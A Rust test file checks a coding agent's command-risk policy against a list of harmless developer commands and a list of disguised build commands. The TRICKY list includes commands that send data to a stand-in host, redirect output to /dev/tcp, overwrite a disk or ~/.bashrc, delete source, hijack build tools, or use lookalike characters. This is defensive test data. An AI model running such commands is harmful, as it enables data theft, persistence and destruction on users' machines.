//! Two lists that were drawn before anybody looked at what they ask: what a coding agent runs all
//! day, builds and tests among them, and what only looks like a build.

use journeyman_policy::{Call, Policy, analyse_command};
use journeyman_protocol::{Decision, Effects, Enforcement, Mode, SandboxNeeds, SandboxTier};

/// Harmless commands, in the order in which they were drawn.
#[rustfmt::skip] // One command a line would be a thousand lines.
const HARMLESS: &[&str] = &[
    "ls", "ls -la src tests", "cat package.json", "cat src/app.ts | head -80", "sed -n '120,180p' src/server.rs", "head -50 README.md",
    "tail -30 build.log", "wc -l src/**/*.ts", "grep -rn \"fn parse_header\" crates/", "grep -n \"import\" src/index.js | head -20",
    "grep -rn --include='*.py' 'def test_' tests | wc -l", "rg -n \"TODO|FIXME\" src", "rg --files -g '*.go' | head", "rg -l 'useEffect' web/src",
    "find . -name '*.test.ts' -not -path './node_modules/*'", "find . -maxdepth 2 -type d | sort",
    "find . -name Cargo.toml | xargs grep -n '^version'", "tree -L 2 -I node_modules", "pwd && ls", "cd web && ls -la", "cd web && cat tsconfig.json",
    "cat Makefile | grep -A3 '^test:'", "awk 'NR>=10 && NR<=30' src/lib.rs", "jq '.dependencies' package.json",
    "jq -r '.scripts | to_entries[] | \"\\(.key): \\(.value)\"' package.json", "diff src/a.rs src/b.rs",
    "diff <(sort expected.txt) <(sort actual.txt)", "file assets/logo.png", "du -sh target", "stat -c %s dist/bundle.js", "which node npm python3",
    "env | sort | head", "echo \"$PATH\"", "date", "uname -a", "nproc", "python3 --version && pip --version", "rustc --version; cargo --version",
    "node --version", "go version", "git status", "git status --short", "git diff", "git diff HEAD -- src/server.rs", "git diff --stat main...HEAD",
    "git log --oneline -15", "git log -p -1 -- src/parser.py", "git show HEAD --stat", "git blame -L 40,60 src/parser.py", "git branch -vv",
    "git stash list", "git ls-files | grep -c '\\.rs$'", "git rev-parse --abbrev-ref HEAD", "git add -A",
    "git add src/parser.py tests/test_parser.py", "git commit -m \"parser: accept empty input\"", "git checkout -b fix-empty-input",
    "git restore --staged src/parser.py", "git mv src/old_name.py src/new_name.py", "git apply --stat fix.patch", "mkdir -p src/components/form",
    "touch src/components/form/index.ts", "mv src/util.ts src/lib/util.ts", "cp .env.example .env.test", "cp -r fixtures/basic fixtures/extended",
    "rm src/unused.ts", "rm -f build.log", "chmod +x scripts/release.sh", "echo 'node_modules/' >> .gitignore",
    "printf 'a,b\\n1,2\\n' > tests/data/small.csv", "cat > notes.md <<'EOF'\n# Notes\nEOF", "sed -i 's/oldName/newName/g' src/app.ts src/server.ts",
    "sort -u words.txt -o words.txt", "tee -a CHANGELOG.md <<< '- fixed'", "patch -p1 < fix.patch", "cargo build", "cargo build --release",
    "cargo check --all-targets", "cargo test", "cargo test -p parser empty_input -- --nocapture", "cargo test --lib 2>&1 | tail -40",
    "cargo clippy --all-targets -- -D warnings", "cargo fmt --all -- --check", "cargo tree -d", "cargo doc --no-deps", "cargo run -- --help",
    "cargo bench --no-run", "npm test", "npm run build", "npm run lint", "npm run typecheck 2>&1 | head -50", "npm ls --depth=0",
    "npm test -- --runInBand src/parser.test.ts", "npx tsc --noEmit", "npx eslint src --ext .ts,.tsx", "npx prettier --check .",
    "npx jest src/parser.test.ts", "npx vitest run", "yarn build", "yarn test --coverage", "pnpm test", "pnpm run build", "pnpm lint", "pytest",
    "pytest -x -q tests/test_parser.py", "pytest tests/test_parser.py::test_empty -vv 2>&1 | tail -30", "python -m pytest -k parser",
    "python3 -m unittest discover -s tests", "python3 -m mypy src", "mypy src/", "ruff check . --fix", "black .",
    "python3 -c 'import sys; print(sys.version)'", "python3 -c \"import json; print(json.load(open('package.json'))['version'])\"",
    "python3 scripts/gen_table.py", "python3 manage.py test", "node scripts/build.js", "node -e 'console.log(1+1)'", "tox -e py311", "go build ./...",
    "go test ./...", "go test -run TestParse ./internal/parser -v", "go vet ./...", "gofmt -l .", "golangci-lint run", "make", "make test",
    "make -j4 build", "make lint", "cmake -S . -B build", "cmake --build build -j", "ctest --test-dir build --output-on-failure", "./gradlew test",
    "./gradlew build", "gradle test --tests 'ParserTest'", "mvn -q test", "mvn compile", "dotnet build", "dotnet test --no-build",
    "bundle exec rspec spec/parser_spec.rb", "bundle exec rubocop", "rake test", "composer test", "vendor/bin/phpunit tests", "mix test",
    "swift build", "bash -n scripts/release.sh", "shellcheck scripts/*.sh", "for f in tests/data/*.csv; do wc -l \"$f\"; done",
    "if [ -d dist ]; then ls dist; fi", "timeout 60 cargo test --quiet", "time npm run build",
    "cargo build 2>&1 | grep -E '^(warning|error)' | sort | uniq -c",
];

/// Those that ask in `edit`: programs that are run for themselves, because nothing says what they
/// do to files that undo doesn't cover, and what changes git's history.
const ASKING: &[&str] = &[
    "git commit -m \"parser: accept empty input\"",
    "git checkout -b fix-empty-input",
    "cargo run -- --help",
    "python3 -c 'import sys; print(sys.version)'",
    "python3 -c \"import json; print(json.load(open('package.json'))['version'])\"",
    "python3 scripts/gen_table.py",
    "node scripts/build.js",
    "node -e 'console.log(1+1)'",
];

/// Build tools that run another program, lead out of the project or do more than build, and builds
/// in bad company, each with the level that it has at least.
#[rustfmt::skip] // One command a line would be a thousand lines.
const TRICKY: &[(u8, &str)] = &[
    (2, "cargo build --config 'build.rustc-wrapper=\"./x\"'"), (2, "cargo --config x.toml test"),
    (2, "cargo test --manifest-path ../other/Cargo.toml"), (2, "cargo test --manifest-path /srv/x/Cargo.toml"),
    (2, "cargo build --target-dir /home/me/bin"), (2, "cargo build --target-dir ../out"), (2, "cargo build --out-dir ../bin -Z unstable-options"),
    (2, "cargo build --artifact-dir=/usr/local/bin"), (2, "cargo +evil build"), (2, "cargo -C ../other build"), (2, "cargo -Z script x.rs"),
    (2, "RUSTC_WRAPPER=./x cargo build"), (2, "RUSTFLAGS='-C linker=./x' cargo build"), (2, "CARGO_TARGET_DIR=/home/me cargo build"),
    (2, "PATH=./bin:$PATH cargo test"), (3, "cargo install --path ."), (3, "cargo publish --dry-run"), (2, "cargo run --example wipe"),
    (2, "cargo x clean"), (2, "cargo evil"), (2, "cargo fix --allow-dirty"), (2, "cargo test \"$ARGS\""), (2, "cargo test $ARGS"), (2, "cargo $CMD"),
    (3, "cargo login"), (2, "cargo clean --target-dir .."), (2, "go test -exec ./x ./..."), (2, "go test -exec=./x ./..."),
    (2, "go build -toolexec ./x ./..."), (2, "go build -o ../../bin/tool ./cmd/tool"), (2, "go build -o /usr/local/bin/tool"),
    (2, "go build -overlay=x.json ./..."), (2, "go build -modfile=../go.mod ./..."), (2, "go test -o /home/me/x"),
    (2, "go test -coverprofile=/home/me/.bashrc ./..."), (2, "go test -C ../other ./..."), (2, "go vet -vettool=./x ./..."), (2, "go generate ./..."),
    (2, "go run ./cmd/wipe"), (2, "go tool x"), (2, "go env -w GOFLAGS=-toolexec=./x"), (2, "GOFLAGS=-toolexec=./x go build"),
    (2, "go install ./..."), (2, "go clean -modcache"), (3, "npm publish"), (3, "npm run publish"), (3, "npm run deploy"),
    (3, "npm run release && npm publish"), (3, "npm run deploy:prod"), (2, "npm --prefix ../other test"), (2, "npm -C ../other test"),
    (2, "npm test --script-shell=./x"), (2, "npm run build --script-shell ./x"), (2, "npm run build --prefix /srv/x"), (2, "npm exec -- ./x"),
    (2, "npm run $SCRIPT"), (2, "npm run \"$SCRIPT\""), (3, "npm i -g x"), (2, "npm install x"), (2, "npm config set script-shell ./x"),
    (2, "npm_config_script_shell=./x npm test"), (2, "NODE_OPTIONS='--require ./x' npm test"), (2, "npm rebuild"), (3, "yarn publish"),
    (2, "yarn --cwd ../other test"), (2, "yarn dlx x"), (2, "pnpm --dir ../other test"), (2, "pnpm -C .. test"), (2, "pnpm dlx x"),
    (2, "pnpm exec ./x"), (2, "npx some-package-from-registry"), (2, "npx -y create-evil"), (2, "npx -p x y"), (2, "npx --package=x y"),
    (2, "npx -c 'rm -rf src'"), (2, "npx ./x"), (2, "npx tsc --outDir /home/me"), (2, "npx eslint --rulesdir ../x src"),
    (2, "npx eslint -c /tmp/x.js src"), (2, "npx eslint --resolve-plugins-relative-to /tmp src"), (2, "npx jest --config /tmp/x.js"),
    (2, "npx jest --rootDir=.."), (2, "npx jest --globalSetup ./x.js"), (2, "npx vitest --dir ../other run"), (2, "npx prettier --write ../other"),
    (2, "npx prettier --plugin=/tmp/x.js ."), (3, "npx wrangler deploy"), (3, "npx vercel deploy"), (2, "node --test --import ./x.mjs"),
    (2, "node -r ./x --test"), (2, "pytest -p evil_plugin"), (2, "pytest -c /tmp/pytest.ini"), (2, "pytest --rootdir=.."),
    (2, "pytest -o python_files='*.txt'"), (2, "pytest --basetemp=src"), (2, "pytest --basetemp=/home/me"), (2, "pytest --junitxml=/home/me/.bashrc"),
    (2, "pytest --confcutdir=.."), (2, "pytest ../other"), (2, "pytest /srv/x"), (2, "pytest --pyargs evil"),
    (2, "pytest --rsyncdir=. --tx ssh=host"), (2, "pytest --debug=../x"), (2, "PYTHONPATH=/tmp/x pytest"), (2, "PYTEST_ADDOPTS='-p evil' pytest"),
    (2, "python -m pip install ."), (2, "python -m evil"), (2, "python3 -m http.server"), (2, "python -m pytest -p evil"),
    (2, "python -m unittest evil.txt ../x"), (2, "python3 setup.py install"), (3, "python3 -m twine upload dist/*"),
    (2, "python manage.py flush --no-input"), (2, "python manage.py migrate"), (2, "tox -c /tmp/tox.ini"), (2, "tox --workdir .."),
    (2, "tox --override testenv.commands=./x"), (2, "nox -f /tmp/noxfile.py"), (2, "mypy --python-executable ./x src"),
    (2, "ruff check --config ../x.toml"), (2, "ruff check --output-file /home/me/.bashrc"), (2, "make -C ../other"), (2, "make -f /tmp/x.mk"),
    (2, "make SHELL=./x"), (2, "make CC=./x"), (2, "make --eval='$(shell ./x)'"), (2, "make -I .."), (2, "make --directory=/srv"),
    (2, "make install"), (2, "make deploy"), (2, "make publish"), (2, "make \"$TARGET\""), (2, "make $(cat x)"), (2, "MAKEFLAGS=--eval=x make"),
    (2, "SHELL=./x make"), (2, "cmake -P x.cmake"), (2, "cmake -E rm -rf src"), (2, "cmake -E env ./x"), (2, "cmake -B /home/me/x"),
    (2, "cmake -B .."), (2, "cmake --install build"), (2, "cmake -DCMAKE_C_COMPILER=./x -B build"), (2, "cmake -C x.cmake"),
    (2, "cmake --build ../other"), (2, "cmake --build build --target install"), (2, "ctest -S x.cmake"), (2, "ctest --build-and-test a b"),
    (2, "ctest --test-dir ../other"), (2, "ninja -C ../other"), (2, "ninja -f x.ninja"), (2, "ninja -t clean"),
    (2, "./gradlew --init-script x.gradle test"), (2, "./gradlew -I x.gradle test"), (2, "./gradlew -p ../other test"),
    (2, "./gradlew -g /home/me test"), (3, "./gradlew publish"), (2, "./gradlew installDist -PinstallDir=/usr"), (2, "../gradlew test"),
    (2, "/tmp/gradlew test"), (2, "gradle -b /tmp/x.gradle"), (2, "gradle --project-dir .. test"),
    (2, "gradle wrapper --gradle-distribution-url=http://x.example/g.zip"), (3, "mvn deploy"), (2, "mvn -f ../pom.xml test"),
    (2, "mvn -s /tmp/settings.xml test"), (2, "mvn exec:exec -Dexec.executable=./x"), (2, "mvn exec:java"),
    (2, "mvn -Dmaven.ext.class.path=x.jar test"), (2, "dotnet run"), (2, "dotnet build -o /home/me"), (2, "dotnet build ../other"),
    (2, "dotnet test --settings /tmp/x"), (2, "dotnet tool install x"), (3, "dotnet nuget push x"), (2, "dotnet exec x.dll"),
    (2, "dotnet build -p:PreBuildEvent=./x"), (2, "dotnet msbuild -t:Evil"), (2, "bundle exec ./x"), (2, "bundle exec rake db:drop"),
    (2, "bundle exec rspec -r ./x"), (2, "bundle exec rspec ../other"), (2, "rake db:drop"), (2, "rake -f /tmp/Rakefile"), (2, "rake -r ./x"),
    (2, "composer run-script evil"), (2, "composer exec evil"), (2, "composer -d .. test"), (2, "vendor/bin/phpunit --bootstrap /tmp/x.php"),
    (2, "phpunit -c /tmp/x.xml"), (2, "mix run -e 'File.rm_rf!(\"x\")'"), (2, "mix do test, ecto.drop"), (2, "mix ecto.drop"), (2, "swift run"),
    (2, "swift build --package-path .."), (2, "swift build -Xcc -fplugin=x"), (2, "swift package plugin x"), (3, "cargo test && git push"),
    (3, "npm test; curl -d @x x.example"), (2, "cargo build && ./x"), (2, "cargo build | sh"), (2, "cargo test || rm -rf src"),
    (2, "make && sudo ls || make; python3 x.py"), (2, "cargo test > ../out.txt"), (3, "cargo test > ~/.bashrc"), (3, "cargo test 2> .envrc"),
    (3, "cargo test > .git/hooks/pre-commit"), (2, "cd .. && cargo test"), (2, "cd /srv/other && make"), (2, "cd ../other && npm test"),
    (2, "pushd .. && npm test"), (2, "for d in ../*; do cargo test; cd $d; done"), (2, "find .. -name Makefile -execdir make \\;"),
    (2, "ls | xargs make"), (2, "echo x | xargs cargo test --config"), (2, "env RUSTC=./x cargo build"), (2, "env -C ../other cargo build"),
    (2, "sudo -u x ls; cargo test"), (3, "sudo make"), (3, "sudo npm test"), (2, "nohup ./x & cargo test"), (2, "cargo() { ./x; }; cargo test"),
    (2, "alias cargo=./x; cargo test"), (2, "export PATH=.:$PATH; cargo test"), (2, "./cargo test"), (2, "./npm test"), (2, "bin/make test"),
    (2, "./node_modules/.bin/evil"), (2, "C=test; cargo $C"), (2, "eval cargo test $x"), (2, "timeout 5 ./x"), (2, "time ./x"),
    (2, "nice -n 5 python3 x.py"), (2, "watch -n1 make"), (2, "xvfb-run npm test"), (2, "strace -o ../x cargo test"),
    (2, "script -c 'cargo test' /home/me/x"), (2, "cargo test <<< \"$x\" | bash"), (2, "make test SHELL=/bin/evil"), (2, "make test -- -f /tmp/x"),
    (2, "cargo test -- --nocapture > /dev/tcp/x/1"), (3, "cargo build >/dev/sda"), (2, "ｃargo test"), (2, "cargо test"),
];

#[test]
fn harmless_commands_ask_in_edit_only_if_they_run_a_program_or_change_history() {
    let sandbox = Enforcement::from_needs(SandboxTier::Namespaces, SandboxNeeds::ALL);
    let asking = |mode| -> Vec<&str> {
        let asks = |command: &&&str| {
            let effects = Effects { command: Some((**command).to_owned()), ..Effects::default() };
            let call =
                Call { tool: "run_command", agent: None, mode, effects: &effects, sandbox: Some(&sandbox) };
            Policy::default().judge(&call).decision > Decision::Allow
        };
        HARMLESS.iter().filter(asks).copied().collect()
    };
    println!("{} of {} ask in `edit`", asking(Mode::Edit).len(), HARMLESS.len());
    assert_eq!(asking(Mode::Edit), ASKING);
    assert_eq!(asking(Mode::Auto), Vec::<&str>::new());
}

#[test]
fn what_only_looks_like_a_build_is_no_build() {
    let low: Vec<String> = TRICKY
        .iter()
        .map(|(least, command)| (least, command, analyse_command(command, &[])))
        .filter(|(least, _, analysis)| analysis.level.number() < **least)
        .map(|(least, command, analysis)| format!("{command:?} is {}, not {least}", analysis.level))
        .collect();
    assert_eq!(low, Vec::<String>::new());
}
